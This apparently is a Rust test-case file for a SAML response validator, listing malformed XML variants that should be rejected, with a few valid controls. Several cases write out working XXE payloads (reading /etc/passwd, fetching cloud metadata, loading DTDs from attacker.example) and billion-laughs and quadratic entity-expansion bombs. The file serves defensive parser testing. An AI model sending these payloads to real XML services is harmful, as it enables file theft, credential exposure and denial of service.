//! Class 13: a document type, entities and what they do, and references to characters that XML does not have.

use std::fmt::Write as _;

use super::draft::extensions;
use super::{Class, Done, Draft, Expected, Kind, value};

pub(super) static CLASS: Class = Class {
    number: Some(13),
    name: "doctype",
    says: "a document type, entities, processing instructions, references to no character",
    cves: &["CVE-2026-33036"],
    kinds: KINDS,
};

const STRICT: Expected = Expected::Rejected(&["signature/doctype"]);

static KINDS: &[Kind] = &[
    Kind::new("doctype/bare", "a document type without anything in it", STRICT, |d| {
        before(d, "<!DOCTYPE Response>")
    }),
    Kind::new(
        "doctype/public",
        "a document type with a public identifier, of an HTML page's name",
        STRICT,
        |d| {
            before(
                d,
                "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
            )
        },
    ),
    Kind::new("doctype/system", "a document type at an address elsewhere", STRICT, |d| {
        before(d, "<!DOCTYPE Response SYSTEM \"https://attacker.example/a.dtd\">")
    }),
    Kind::new("doctype/entity", "an entity stands for the user's name", STRICT, |d| {
        entity(d, "<!ENTITY e \"mallory@heron.example\">")
    }),
    Kind::new("doctype/file", "an entity stands for a file (XXE)", STRICT, |d| {
        entity(d, "<!ENTITY e SYSTEM \"file:///etc/passwd\">")
    }),
    Kind::new("doctype/address", "an entity stands for an address (XXE)", STRICT, |d| {
        entity(d, "<!ENTITY e SYSTEM \"http://169.254.169.254/latest/meta-data/\">")
    }),
    Kind::new(
        "doctype/parameter-entity",
        "a parameter entity fetches more of the document type",
        STRICT,
        |d| {
            before(
                d,
                "<!DOCTYPE Response [<!ENTITY % p SYSTEM \"https://attacker.example/p.dtd\"> %p;]>",
            )
        },
    ),
    Kind::new("doctype/entity-like-a-page", "an entity holds the tags of a page", STRICT, |d| {
        before(d, "<!DOCTYPE Response [<!ENTITY e \"]><html><body>\"> <!-- <html> -->]>")
    }),
    Kind::new(
        "doctype/billion-laughs",
        "entities of entities that become a billion",
        STRICT,
        |d| {
            let mut declared = "<!ENTITY e0 \"ha\">".to_owned();
            for level in 1..10 {
                // Writing to a String cannot fail.
                let _ = write!(
                    declared,
                    "<!ENTITY e{level} \"{}\">",
                    format!("&e{};", level - 1).repeat(10)
                );
            }
            entity(d, &format!("{declared}<!ENTITY e \"&e9;\">"))
        },
    ),
    Kind::new("doctype/quadratic", "one long entity, many times", STRICT, |d| {
        entity(d, &format!("<!ENTITY e \"{}\">", "a".repeat(2_000)))?;
        d.swap("&e;", &"&e;".repeat(200)).map(drop)
    }),
    Kind::new(
        "doctype/attribute-default",
        "the document type gives the assertion an attribute",
        STRICT,
        |d| before(d, "<!DOCTYPE Response [<!ATTLIST Assertion ID CDATA \"id0\">]>"),
    ),
    Kind::new("doctype/undeclared-entity", "an entity that nobody declared", STRICT, |d| {
        d.swap("urn:amazon:webservices<", "urn:amazon:webservices&e;<").map(drop)
    }),
    Kind::new("doctype/instruction", "a processing instruction before the root", STRICT, |d| {
        before(d, "<?xml-stylesheet href=\"https://attacker.example/a.xsl\"?>")
    }),
    Kind::new(
        "doctype/instruction-inside",
        "a processing instruction within the response",
        STRICT,
        |d| d.after("Status", "<?php x ?>").map(drop),
    ),
    Kind::new("doctype/reference-to-nul", "a character reference to NUL", STRICT, |d| {
        referred(d, "&#0;")
    }),
    Kind::new(
        "doctype/reference-to-surrogate",
        "a character reference to half a character",
        STRICT,
        |d| referred(d, "&#xD800;"),
    ),
    Kind::new(
        "doctype/reference-too-large",
        "a character reference beyond all characters",
        STRICT,
        |d| referred(d, "&#x110000;"),
    ),
    Kind::new(
        "doctype/reference-wraps",
        "a character reference that is a letter once it overflows",
        STRICT,
        |d| referred(d, "&#4294967361;"),
    ),
    Kind::valid("doctype/valid-predefined", "the five entities that XML has by itself", |d| {
        d.content(value("department"), "&lt;&amp;&gt;&quot;&apos;")?.sign()
    }),
    Kind::valid("doctype/valid-references", "character references, decimal and hexadecimal", |d| {
        d.content(value("department"), "D&#111;cks &#x26; &#x1F6A2;")?.sign()
    }),
    Kind::valid("doctype/valid-in-comment", "a comment holds a document type", |d| {
        before(d, "<!-- <!DOCTYPE html [ > -->")
    }),
    Kind::valid(
        "doctype/valid-in-cdata",
        "a CDATA section of the Extensions holds a document type",
        |d| {
            let foreign =
                "<h:a xmlns:h=\"urn:heron\"><![CDATA[<!DOCTYPE a [<!ENTITY e \"x\">]>&e;]]></h:a>";
            d.before("Status", &extensions(foreign))?.sign()
        },
    ),
    Kind::valid("doctype/valid-as-text", "a value holds the letters of a document type", |d| {
        d.content(value("department"), "&lt;!DOCTYPE html>&lt;html>")?.sign()
    }),
];

fn before(d: &mut Draft<'_>, markup: &str) -> Done {
    d.before("Response", markup).map(drop)
}

/// A document type with these declarations, its entity `e` in the place of the user's name.
fn entity(d: &mut Draft<'_>, declarations: &str) -> Done {
    d.content("NameID", "E")?
        .before("Response", &format!("<!DOCTYPE Response [{declarations}]>"))?;
    d.swap(">E</", ">&e;</").map(drop)
}

/// A reference behind the user's name.
fn referred(d: &mut Draft<'_>, reference: &str) -> Done {
    let name = d.inner("NameID")?;
    d.content("NameID", &format!("{name}{reference}")).map(drop)
}
